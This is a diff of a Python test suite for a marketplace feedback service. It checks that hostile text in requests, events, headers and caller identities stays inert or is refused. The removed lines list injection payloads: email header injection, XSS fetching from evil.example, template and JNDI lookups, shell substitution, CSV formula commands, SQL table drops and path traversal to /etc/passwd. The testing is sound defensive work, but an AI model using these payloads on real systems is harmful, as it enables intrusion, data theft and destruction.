@@ -9,83 +9,32 @@ must quote it there, and would have to even if we had altered it.
 
 import json
 import re
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
+from functools import partial
+from itertools import product
 from typing import Any
 
-import pytest
+from pydantic import BaseModel
 
+from mid_job_feedback.models import Answer, Ask
+from tests import queues
 from tests.builders import CLIENT, FREELANCER, RATINGS
 from tests.component import test_logs
-from tests.component.calls import Answer, call
+from tests.component.calls import Answer as Told
+from tests.component.calls import call
+from tests.component.hostile import WORDS, Place, changed, event_models, every_text, fields_of, objects_of, share
 from tests.component.marketplace import Email, Marketplace
 from tests.component.test_hostile_text import Shown
 from tests.component.test_logs import Written
 from tests.conftest import Tried
 from tests.contract_queue import dead_letters, deliver, event
-from tests.soak import SOAK
 
-HOSTILE = {
-    "header CRLF": "Eve\r\nBcc: victim@evil.example\r\nContent-Type: text/html\r\n\r\n<b>body</b>",
-    "header LF": "Eve\nTo: victim@evil.example",
-    "header folded": "Eve\r\n Bcc: victim@evil.example",
-    "header encoded": "=?utf-8?q?Eve=0D=0ABcc:_victim@evil.example?=",
-    "header percent": "Eve%0d%0aBcc:%20victim@evil.example",
-    "header unicode": "Eve\u2028Bcc: victim@evil.example\u2029\x85Bcc: victim@evil.example\u560d\u560a",
-    "html script": "<script>fetch('//evil.example')</script>",
-    "html attribute": "\" onmouseover='alert(1)' x=\"",
-    "html image": "<img src=x onerror=alert(1)><svg/onload=alert(1)>",
-    "html close": "</td></tr></table></body></html><h1>Hacked",
-    "html comment": "<!-- --><![CDATA[<b>]]><!--[if mso]><b><![endif]-->",
-    "html link": "<a href=javascript:alert(1)>http://evil.example/</a>",
-    "html style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
-    "html entities": "&lt;script&gt;&#60;b&#x3e;&amp;amp;",
-    "template": "{{7*7}}{{ self.__init__.__globals__ }}{% include '/etc/passwd' %}${7*7}#{7*7}<%= 7*7 %>",
-    "format": "%s%n%x%(link)s{0}{link}\\1\\g<0>$0$&",
-    "lookup": "${jndi:ldap://evil.example/a}$(id)`id`;id|id",
-    "log line": 'x\n{"level":"INFO","message":"submit accepted","command":"submit"}',
-    "log CR": "x\r\x1b[2K\x1b[1A2026-01-01 INFO all is well",
-    "log ANSI": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b31m",
-    "log null": "a\x00b\x08\x7f",
-    "csv formula": '=HYPERLINK("http://evil.example","click")',
-    "csv command": "=cmd|' /C calc'!A0",
-    "csv plus": "+1+cmd|' /C calc'!A0",
-    "csv minus": "-2+3+cmd|' /C calc'!A0",
-    "csv at": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "csv tab": "\t=1+1",
-    "csv quote": '","=1+1","',
-    "sql": "'; DROP TABLE feedback; --",
-    "path": "../../../../etc/passwd\x00.html",
-    "direction": "\u202eexe.fdp\u202c\u2066\u200f",
-    "zalgo": "Z" + "\u0311\u0357" * 60,
-    "invisible": "a\u200b\u200d\ufeff\u00adb",
-}
-ALIKE = {  # much like one of the others: in the long form only
-    "header folded",
-    "header percent",
-    "html comment",
-    "html style",
-    "format",
-    "lookup",
-    "log CR",
-    "csv plus",
-    "csv minus",
-    "csv tab",
-    "sql",
-    "zalgo",
-    "invisible",
-}
-TRIED = {name: text for name, text in HOSTILE.items() if SOAK or name not in ALIKE}
+type Post = Callable[..., Told]
+
 LOG_KEYS = {"level", "location", "message", "timestamp", "service"}
 MAIL_HREF = re.compile(r'(?:href|src)="([^"]*)"')
 
 log = test_logs.written
-
-every_text = pytest.mark.parametrize("text", TRIED.values(), ids=TRIED.keys())
-every_json_text = pytest.mark.parametrize(
-    "text",
-    [text for text in TRIED.values() if "\x00" not in text],
-    ids=[name for name, text in TRIED.items() if "\x00" not in text],
-)
 
 
 @every_text
@@ -109,7 +58,7 @@ def test_what_the_marketplace_tells_is_text_in_every_channel(
     assert (listed["title"], listed["feedback"][0]["comment"]) == (shown, text.strip())
     link = _json(empty_marketplace.open(empty_marketplace.link()))
     assert (link["contract"]["title"], link["contract"]["freelancer"]["name"]) == (shown, shown)
-    _safe(empty_marketplace)
+    _safe(empty_marketplace, messages=1)
     _log_lines(log(), text)
     tried("hostile texts", 4)
 
@@ -127,6 +76,7 @@ def test_what_people_write_is_text_in_every_channel(
         assert asked.status == 201
     assert _json(asked)["message"] == text.strip()
     marketplace.settle()
+    _safe(marketplace, messages=1)
     assert _json(marketplace.open(marketplace.link()))["request"]["message"] == text.strip()
     given = marketplace.give(body={"ratings": RATINGS, "comment": text})
     assert _json(given)["comment"] == text.strip()
@@ -134,7 +84,7 @@ def test_what_people_write_is_text_in_every_channel(
     tab = _json(marketplace.tab())
     assert (tab["past_requests"][0]["message"], tab["feedback"][0]["comment"]) == (text.strip(), text.strip())
     assert _json(marketplace.history())["contracts"][0]["feedback"][0]["comment"] == text.strip()
-    _safe(marketplace)
+    _safe(marketplace, messages=2)
     _log_lines(log(), text)
     tried("hostile texts", 3)
 
@@ -188,26 +138,21 @@ def test_an_idempotency_key_is_printable_or_refused_and_never_shown(
 
 
 @every_text
-def test_an_id_in_an_event_is_an_id_or_sets_the_event_aside(
+def test_a_field_of_an_event_that_is_not_for_words_sets_the_event_aside(
     empty_marketplace: Marketplace,
     log: Written,
     text: str,
     tried: Tried,
 ) -> None:
-    party = {"id": text, "name": "Client", "email": "client@example.com"}
-    addressed = {"id": "u-client", "name": "Client", "email": f"{text}@example.com"}
-    told = [
-        event("contract-started", contract_id=text),
-        event("contract-started", client=party),
-        event("contract-started", freelancer=party),
-        event("contract-started", client=addressed),
-        event("contract-started", client={**addressed, "email": f"client@example.com{text}"}),
-        event("contract-started", started_at=text),
-        event("payment-made", payment_id=text),
-        event("payment-made", contract_id=text),
-        event("end-of-contract-feedback", feedback_id=text),
-        json.dumps({**json.loads(event("payment-made")), "detail-type": text}),
+    """Also text in half of an address."""
+    every_place = [
+        json.dumps(changed(json.loads(event(case)), place, form))
+        for case, model in event_models().items()
+        for place in fields_of(model)
+        if place[-1] not in WORDS
+        for form in _forms(text, place)
     ]
+    told = share(every_place, text)
     assert deliver(*told) == []
     letters = dead_letters()
     assert len(letters) == len(told)
@@ -219,21 +164,102 @@ def test_an_id_in_an_event_is_an_id_or_sets_the_event_aside(
     tried("hostile texts", len(told))
 
 
-@every_json_text
-def test_a_name_of_a_field_that_nobody_knows_is_not_repeated_in_the_log(
+@every_text
+def test_a_field_of_an_event_that_nobody_knows_goes_nowhere(
+    empty_marketplace: Marketplace,
+    log: Written,
+    text: str,
+    tried: Tried,
+) -> None:
+    """But in ratings, where there must be no other."""
+    told, count = [], 0
+    for case, model in event_models().items():
+        sent = json.loads(event(case, contract_id="c-1"))
+        places = [place for place in objects_of(model) if place[-1:] != ("ratings",)]
+        for place, name in product(places, (text, "unknown")):
+            sent, count = changed(sent, (*place, name), text), count + 1
+        told.append(json.dumps(sent))
+    assert deliver(*told) == []
+    assert dead_letters() == []
+    assert empty_marketplace.history().body["contracts"][0]["status"] == "ended"
+    assert not any(text in value for value in _values(empty_marketplace.rows()))
+    _log_lines(log(), text)
+    tried("hostile texts", count)
+
+
+@every_text
+def test_a_field_of_a_body_that_is_not_for_words_is_refused(
     marketplace: Marketplace,
     log: Written,
     text: str,
     tried: Tried,
 ) -> None:
-    answer = marketplace.give(body={"ratings": {**RATINGS, text: 5}, "comment": "Fine.", text: text})
-    assert answer.refusal == (422, "invalid_request")
-    _json(answer)
+    """Fields that nobody knows among them."""
+    marketplace.run("c-2")
+    marketplace.ask("c-2")
+    posts: list[tuple[Post, type[BaseModel], Any]] = [
+        (marketplace.ask, Ask, {"message": "Fine?"}),
+        (marketplace.give, Answer, {"ratings": RATINGS, "comment": "Fine."}),
+        (partial(marketplace.answer, marketplace.link("c-2")), Answer, {"ratings": RATINGS}),
+    ]
+    rows, count = marketplace.rows(), 0
+    for post, model, body in posts:
+        known = [place for place in fields_of(model) if place[-1] not in WORDS]
+        unknown = [(*place, name) for place in objects_of(model) for name in (text, "unknown")]
+        places = share(known + unknown, text)
+        for place in places:
+            refused = post(body=changed(body, place, text))
+            assert refused.refusal == (422, "invalid_request")
+            _json(refused)
+        count += len(places)
+    assert marketplace.rows() == rows
     _log_lines(log(), text)
-    tried("hostile texts", 2)
+    tried("hostile texts", count)
 
 
-def _json(answer: Answer) -> Any:
+@every_text
+def test_whoever_the_caller_claims_to_be_is_an_id_or_a_stranger(
+    marketplace: Marketplace,
+    log: Written,
+    text: str,
+    tried: Tried,
+) -> None:
+    """The subject of a JWT is whatever its issuer says."""
+    marketplace.sdk.calls.clear()
+    for call_as in (marketplace.tab, marketplace.ask, marketplace.give):
+        answer = call_as(person=text)
+        assert answer.refusal == (404, "contract_not_found")
+        assert text not in answer.text
+        _json(answer)
+    assert marketplace.ask(person=text, headers={"idempotency-key": "key-1"}).status == 404
+    assert not any(text in value for value in _values(marketplace.remembered() + marketplace.rows()))
+    assert "TransactWriteItems" not in marketplace.sdk.operations
+    _log_lines(log(), text)
+    tried("hostile texts", 4)
+
+
+@every_text
+def test_a_header_that_we_do_not_read_makes_no_difference(
+    marketplace: Marketplace,
+    log: Written,
+    text: str,
+    tried: Tried,
+) -> None:
+    """But a body that is not said to be JSON is refused. API Gateway lets no line end through."""
+    unread = dict.fromkeys(("accept", "user-agent", "x-forwarded-for", "cookie", "origin"), _one_line(text))
+    untrue = {"content-type": _one_line(text)}
+    body = {"ratings": RATINGS}
+    for post in (partial(marketplace.ask, body={}), partial(marketplace.give, body=body)):
+        refused = post(headers=untrue)
+        assert refused.refusal == (400, "not_json")
+        assert text not in refused.text
+        _json(refused)
+        assert post(headers=unread).status == 201
+    _log_lines(log(), text)
+    tried("hostile texts", 2 * len(untrue | unread))
+
+
+def _json(answer: Told) -> Any:
     """What an answer says; its headers are ours, on one line each, and say it is nothing but JSON."""
     assert answer.headers["Content-Type"] in {"application/json", "application/problem+json"}
     assert answer.headers["X-Content-Type-Options"] == "nosniff"
@@ -243,7 +269,10 @@ def _json(answer: Answer) -> Any:
     return json.loads(answer.text) if answer.text else None
 
 
-def _safe(marketplace: Marketplace) -> None:
+def _safe(marketplace: Marketplace, *, messages: int) -> None:
+    """So many by each channel, and none given up."""
+    assert len(marketplace.emails()) == len(marketplace.dash()) == messages
+    assert queues.take("FAILURE_QUEUE_URL") == []
     for email in marketplace.emails():
         _safe_email(email)
     for sent, dash in zip(marketplace.sdk.done("Publish"), marketplace.dash(), strict=True):
@@ -308,6 +337,10 @@ def _values(logged: Any) -> Iterator[str]:
                 yield from _values(value)
         case str():
             yield logged
+
+
+def _forms(text: str, place: Place) -> list[str]:
+    return [text, f"{text}@example.com", f"client@example.com{text}"] if place[-1] == "email" else [text]
 
 
 def _one_line(text: str) -> str:
